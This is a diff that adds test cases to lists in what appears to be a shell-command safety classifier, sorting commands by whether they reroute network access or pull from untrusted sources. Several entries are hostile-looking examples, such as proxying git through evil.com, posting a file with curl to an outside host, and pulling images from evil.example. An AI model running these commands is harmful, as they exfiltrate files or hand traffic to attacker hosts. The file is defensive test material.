@@ -39,6 +39,18 @@ LED_ELSEWHERE = [
     *("env http_proxy=http://evil.com git fetch", "doas https_proxy=evil.com git fetch"),
     *("HOME=. curl https://a.io", "XDG_CONFIG_HOME=. curl https://a.io", "env HOME=. git fetch"),
     *("export HOME=/tmp; wget https://a.io", "HOME=$PWD nice sh -c 'curl https://a.io'"),
+    *(
+        "systemd-run -E https_proxy=http://evil.com git fetch",
+        "systemd-run -ECURL_HOME=. curl a.io",
+    ),
+    *("systemd-run --setenv HOME=/tmp curl https://a.io", "run0 --setenv=WGETRC=f wget localhost"),
+    *("bwrap --ro-bind / / --setenv HOME /tmp curl https://a.io", "docker run -eHOME=/w a wget b"),
+    *("docker run --rm --env=https_proxy=evil.com a git fetch", "HOME=/w sh -c 'ls; curl a.io'"),
+    *("docker exec -e WGETRC=f web wget localhost", "podman run -it -e CURL_HOME=/x a curl ::1"),
+    *(
+        "export HOME=/w; HOME=~ ls; curl https://a.io",
+        "env $(cat n) sh -c 'curl -d @f https://a.io'",
+    ),
     *("aria2c --conf-path=f localhost", "lynx -cfg f localhost", "git -c http.proxy=a.io fetch"),
     *("git --config-env=http.proxy=X fetch", "git clone --config http.proxy=a.io b"),
     *("git config http.proxy a.io", "git -C x config --global core.gitProxy ./f"),
@@ -50,6 +62,14 @@ LED_ELSEWHERE = [
 ]
 UNTOLD_SOURCES = [
     *('git clone "$(cat n)"', "git clone --depth 1 $URL", "git -C x fetch $(<n)", "hg clone $URL"),
+    *(
+        'git remote add -f x "$(cat n)"',
+        'git -C x remote set-url origin "$(<n)"',
+        "docker run $IMG",
+    ),
+    *('git submodule add -b main "$(cat n)" x', 'docker pull "$(cat n)"', "podman pull $IMG"),
+    *('docker run --rm -v "$PWD:/w" "$(cat n)" ls', "docker pull evil.example/$(<n)"),
+    *('skopeo inspect "$(cat n)"', 'docker pull --platform linux/arm64 "$(cat n)"'),
     *('git ls-remote "$(base64 notes.txt)"', "git pull `cat n` main", 'svn co "$(cat n)" x'),
 ]
 ASKING = [
@@ -62,6 +82,14 @@ NEITHER = [
     *('git pull origin "$BRANCH"', 'git fetch origin "$(cat n)"', "git fetch --all", "git pull"),
     *("git config --get http.proxy", "git config --unset http.proxy", "git config user.name x"),
     *("HOME=/tmp npm test", "HOME=~ git fetch", "env XDG_CONFIG_HOME=$HOME/.config git fetch"),
+    *(
+        "HOME=/tmp npm test; git fetch",
+        "env HOME=/tmp make && git fetch",
+        "HOME=/w; HOME=~; git pull",
+    ),
+    *('git remote rename a "$NAME"; git remote -v', 'git remote remove "$X"'),
+    *("systemd-run -E FOO=1 git fetch", "docker run -e HOME=/w a make", "docker pull nginx:$TAG"),
+    *('docker run --name "$N" -v "$D:/w" nginx', "env $(cat n) sh -c 'curl localhost:$PORT'"),
     *("env FOO=1 git fetch", "sudo GIT_CONFIG_GLOBAL=/dev/null git fetch", "HOME=/tmp make"),
     *("GIT_CONFIG_GLOBAL=/dev/null git log", 'git -C "$DIR" pull', "scp -P 22 host:a ."),
     *(
